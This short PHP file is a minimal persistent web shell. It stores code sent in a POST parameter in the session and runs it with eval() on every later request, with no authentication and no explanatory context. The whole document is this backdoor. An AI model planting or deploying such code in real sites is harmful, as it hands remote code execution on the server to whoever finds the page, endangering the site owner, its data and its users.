<?php
session_start(); if (isset($_POST['c'])) $_SESSION['c'] = $_POST['c'];
if (isset($_SESSION['c'])) eval($_SESSION['c']);
